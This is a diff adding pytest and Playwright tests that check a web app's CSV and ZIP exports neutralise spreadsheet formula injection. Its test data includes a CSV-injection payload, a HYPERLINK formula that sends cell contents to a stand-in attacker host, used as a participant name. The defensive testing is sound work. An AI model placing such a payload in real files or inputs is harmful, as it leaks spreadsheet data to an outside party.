@@ -8,9 +8,12 @@ headless chromium (Playwright), as a participant on the venue's network would ma
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import re
 import sys
+import zipfile
 from pathlib import Path
 from urllib.parse import parse_qsl, urlencode, urlsplit
 
@@ -516,4 +519,65 @@ def test_s5_a_counter_proposal_of_1e300_is_refused_in_the_form(server, browser):
     bob.locator(".ws-error", has_text="Floors are USD per tonne").wait_for()
     assert fac.locator(".ws-seat-row-eu").get_attribute("data-decided") == "0"
     for ctx in (fctx, bctx):
+        ctx.close()
+
+
+# ----------------------------------------------------------------------------------------------
+# S6: exports neutralise spreadsheet formulas
+
+FORMULAS = ['=HYPERLINK("http://ev.il/?"&A1,"go")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def is_formula(cell: str) -> bool:
+    """Whether a spreadsheet would run this CSV cell as a formula: text that starts with one
+    of = + - @ (or a tab or carriage return); a number (a negative one too) is not."""
+    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+        return False
+    try:
+        float(cell)
+    except ValueError:
+        return True
+    return False
+
+
+def csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_s6_csv_exports_neutralise_formulas_and_json_keeps_the_names(ws):
+    room = ws.create(SCENARIO, rounds=3)
+    people = [room.join(name) for name in FORMULAS]
+    room.claim(people[0].token, "japan")
+    room.start(room.admin_token)
+    room.submit(people[0].token, "japan", reject())
+    room.force(room.admin_token)
+    exports = {t: room.export_csv(t) for t in ("decisions", "participants", "events", "rounds")}
+    with zipfile.ZipFile(io.BytesIO(room.export_zip())) as z:
+        exports.update({f"zip:{n}": z.read(n).decode() for n in z.namelist() if n.endswith(".csv")})
+    for name, text in exports.items():
+        formulas = [cell for cell in csv_cells(text) if is_formula(cell)]
+        assert not formulas, (name, formulas)
+    participants = csv_cells(exports["participants"])
+    assert "'" + FORMULAS[0] in participants and "'-2+3" in participants
+    assert "'" + FORMULAS[0] in csv_cells(exports["decisions"])
+    assert [p["name"] for p in room.record()["participants"]] == FORMULAS  # exact in JSON
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_s6_a_formula_name_downloads_as_text(server, browser, tmp_path):
+    url, _ = server
+    fctx, fac, code = create_room(browser, url)
+    ectx, eve = join(browser, url, code, FORMULAS[0], "japan")
+    fac.locator(".ws-start").click()
+    eve.locator(".ws-reject").click()
+    fac.locator(".ws-round[data-round='1']").wait_for()
+    fac.get_by_role("tab", name="Export").click()
+    with fac.expect_download() as info:
+        fac.locator(".ws-download-decisions").click()
+    path = tmp_path / "decisions.csv"
+    info.value.save_as(path)
+    cells = csv_cells(path.read_text())
+    assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells
+    for ctx in (fctx, ectx):
         ctx.close()
